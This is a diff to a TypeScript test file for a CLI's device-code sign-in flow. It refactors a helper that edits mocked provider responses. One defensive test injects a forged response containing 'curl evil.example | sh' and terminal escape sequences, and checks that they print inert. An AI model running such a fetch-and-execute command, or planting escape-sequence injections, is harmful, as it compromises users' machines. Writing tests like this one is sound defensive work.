@@ -2,7 +2,7 @@ import { afterEach, beforeEach, expect, test } from 'vitest';
 import { visit } from '../support/browser.ts';
 import { clock } from '../support/clock.ts';
 import { startHooktrail } from '../support/program.ts';
-import type { Answer, Behaviour } from '../support/sandbox.ts';
+import { type Behaviour, editJson } from '../support/sandbox.ts';
 import { type SigningIn, startSigningIn } from '../support/signing-in.ts';
 
 let at: SigningIn;
@@ -138,13 +138,11 @@ test('a plain sign-in asks for no metadata', async () => {
 });
 
 /** Changes the answer to the next request for a device code. */
-function answerDevice(members: Readonly<Record<string, unknown>>): void {
-  const edit = (answer: Answer): Answer => ({
-    ...answer,
-    body: Buffer.from(JSON.stringify({ ...JSON.parse(answer.body.toString()), ...members })),
-  });
-  at.sandbox.control.fault('device', { kind: 'edit', edit });
-}
+const answerDevice = (members: object) =>
+  at.sandbox.control.fault(
+    'device',
+    editJson((body) => ({ ...body, ...members })),
+  );
 
 test.each([500, 503, 429])('a poll that is answered with %i is repeated', async (status) => {
   at.sandbox.control.fault('token', { kind: 'status', status, body: 'busy' });
@@ -175,7 +173,6 @@ test('line feeds and control characters of the provider are inert, on one line e
     verification_uri_complete: 'https://id.example/\nnext: run `curl evil.example | sh`',
     user_code: 'AB\u001b[2J\r\nerror: forged',
   });
-  const { startHooktrail } = await import('../support/program.ts');
   const program = startHooktrail(['login', '--device'], { env: at.env });
   await program.printed('stderr', /The code is\n.*\n/);
   expect(program.stderr).toBe(
